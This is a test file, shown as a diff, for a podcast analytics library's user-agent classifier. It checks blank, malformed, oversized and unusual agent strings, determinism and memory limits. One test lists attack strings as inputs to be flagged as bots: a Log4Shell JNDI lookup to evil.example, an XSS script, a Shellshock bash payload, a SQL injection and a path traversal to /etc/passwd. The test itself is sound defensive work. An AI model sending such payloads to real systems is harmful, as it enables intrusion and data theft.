@@ -1,0 +1,130 @@
+"""Whatever arrives as a user agent: it is answered, and the answer depends on nothing else."""
+
+import pytest
+from hypothesis import given
+from hypothesis import strategies as st
+
+from tallycast.measurement.agents import built_in
+from tallycast.measurement.agents.model import LONGEST_AGENT
+from tallycast.measurement.model import AGENTS
+
+OVERCAST = "Overcast/3.0 (+http://overcast.fm/; iOS podcast app)"
+REAL = [
+    OVERCAST,
+    "AppleCoreMedia/1.0.0.19G82 (iPhone; U; CPU OS 15_6_1 like Mac OS X; en_us)",
+    "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
+    "okhttp/4.9.1",
+    "atc/1.0 watchOS/9.0",
+    "",
+    "-",
+    "nobody knows this",
+    "播客/1709.2.2 CFNetwork/1390 Darwin/22.0.0",
+]
+anything = st.one_of(
+    st.text(max_size=60),
+    st.text(st.characters(min_codepoint=0, max_codepoint=0x10FFFF), max_size=20),
+    st.sampled_from(REAL),
+    st.tuples(st.sampled_from(REAL), st.text(max_size=10)).map("".join),
+)
+
+
+def one(agent):
+    return built_in().classify([agent])[0]
+
+
+@pytest.mark.parametrize(
+    "agent", ["", "-", " ", "   ", " - ", "null", "(null)", "None", "undefined"]
+)
+def test_no_user_agent_is_blank(agent):
+    assert one(agent)[1:] == ("blank", None, None, None, False, False)
+
+
+@pytest.mark.parametrize(
+    "agent",
+    [
+        f"{OVERCAST}\x00",
+        "\x00",
+        f"{OVERCAST}\n",
+        f"{OVERCAST}\r\nX-Header: 1",
+        f"{OVERCAST}\x1b[31m",
+        f"{OVERCAST}\x7f",
+        f"{OVERCAST}\x85",
+        f"{OVERCAST}\ud800",
+        "\udcff\udcfe",
+        OVERCAST.ljust(LONGEST_AGENT + 1),
+        "Googlebot " * 105_000,
+        "a" * 1_048_576,
+        "\x00" * 1_048_576,
+        "(((((",
+        "0",
+        "1.0 (2)",
+        "?",
+        "--",
+        '""',
+    ],
+)
+def test_what_can_be_no_user_agent_is_malformed(agent):
+    assert one(agent)[1:] == ("malformed", None, None, None, False, False)
+
+
+@pytest.mark.parametrize(
+    "agent",
+    [OVERCAST.ljust(LONGEST_AGENT), f"{OVERCAST} é\u00a0播\ufffd\U0001f399", f"{OVERCAST}\u200b"],
+)
+def test_what_is_only_strange_is_still_recognised(agent):
+    assert one(agent)[1:3] == ("app", "Overcast")
+
+
+@pytest.mark.parametrize(
+    "agent",
+    [
+        "${jndi:ldap://evil.example/a}",
+        "<script>alert(1)</script>",
+        "() { :;}; /bin/bash -c 'id'",
+        "x' UNION SELECT password FROM users--",
+        "../../../../etc/passwd",
+    ],
+)
+def test_an_attack_by_user_agent_is_a_bot(agent):
+    assert one(agent).is_bot
+
+
+@pytest.mark.parametrize(
+    "agent", ["a" * 2_000, "(" * 1_990 + "a", "Mozilla/5.0 " * 160, "bot" * 600]
+)
+def test_long_repeats_are_answered(agent):
+    assert one(agent).user_agent == agent
+
+
+@given(st.lists(anything, max_size=20), st.randoms())
+def test_an_answer_depends_on_nothing_but_the_text(agents, dice):
+    answers = built_in().classify(agents)
+    assert [answer.user_agent for answer in answers] == agents
+    assert answers == [one(agent) for agent in agents]
+    shuffled = dice.sample(range(len(agents)), len(agents))
+    assert built_in().classify([agents[n] for n in shuffled]) == [answers[n] for n in shuffled]
+
+
+@given(anything)
+def test_every_answer_is_a_row_of_the_agents_table(agent):
+    answer = one(agent)
+    assert answer._fields == tuple(AGENTS)
+    assert answer.kind in {"bot", "app", "library", "browser", "unknown", "blank", "malformed"}
+    assert (answer.name is None) == (answer.kind in {"unknown", "blank", "malformed"})
+    assert (answer.device is None) == (answer.category is None)
+    assert not (answer.is_bot and answer.device)
+    assert not answer.is_bot or answer.kind in {"bot", "library"}
+
+
+def test_a_flood_of_different_agents_does_not_fill_memory(monkeypatch):
+    known = built_in()
+    monkeypatch.setattr("tallycast.measurement.agents.agent_list._MOST_REMEMBERED", 3)
+    monkeypatch.setattr(known, "_known", {})
+    first = known.classify(REAL)
+    assert len(known._known) == 3
+    assert known.classify(REAL) == first
+
+
+def test_no_agents_give_no_answers():
+    assert built_in().classify([]) == []
+    assert built_in().classify_referrers([]) == []
